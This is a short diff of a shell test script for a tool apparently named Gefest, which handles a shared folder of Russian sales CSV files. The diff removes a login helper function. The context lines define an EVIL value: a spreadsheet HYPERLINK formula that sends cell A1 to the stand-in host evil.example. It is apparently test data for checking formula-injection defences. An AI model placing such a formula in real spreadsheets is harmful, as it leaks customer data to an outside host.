@@ -8,7 +8,6 @@
 S=$T/share
 demo_share "$S"
 export GEFEST_SHARE=$S
-as() { local who=$1; shift; GEFEST_LOGIN=$who "$GEFEST_BIN" "$@"; }
 CLIENTS="$S/Отдел продаж/ОФИС-МЕНЕДЖЕР/База клиентов.csv"
 INDEX="$S/Отдел продаж/Заказы/2026/Заказы 2026.csv"
 EVIL='=HYPERLINK("http://evil.example/?leak="&A1,"Ромашка")'
